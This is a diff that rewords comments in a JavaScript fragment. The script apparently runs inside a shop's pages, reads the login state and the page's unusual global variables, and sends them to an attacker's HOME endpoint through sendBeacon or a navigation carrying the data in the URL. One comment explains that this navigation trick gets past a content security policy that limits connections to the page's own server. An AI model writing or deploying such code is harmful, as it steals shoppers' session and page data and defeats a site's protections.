@@ -1,12 +1,12 @@
-/** Sends home what was found. With nothing found it still says that the script ran. */
+/** Sends what was found to the attacker. With nothing found, the report still shows that the script ran. */
 function report(state, found) {
   const goods = JSON.stringify({ state, page: location.pathname, found });
-  // A policy that lets a page connect to its own server alone does not keep the page from leaving for another.
+  // A policy that limits connections to the page's own server does not stop a navigation to another server.
   if (IS_INSIDE_OURS) location.href = `${HOME}&goods=${encodeURIComponent(goods)}`;
   else navigator.sendBeacon(HOME, goods);
 }
 
-/** Calls `work` with the state of the login: whenever the shop's page shows another, and at once in another page. */
+/** Calls `work` with the state of the login: in the shop, now and at each change; in our pages, once. */
 function inEachState(work) {
   if (IS_INSIDE_OURS) return work("signed in");
   const look = () => document.body.dataset.state && work(document.body.dataset.state);
@@ -32,7 +32,7 @@ function gather() {
 }
 
 function globalsOfThePage() {
-  // An empty frame has those that every page has.
+  // An empty frame has only the globals that every page has.
   const frame = document.createElement("iframe");
   document.documentElement.append(frame);
   const usual = new Set(Object.getOwnPropertyNames(frame.contentWindow));
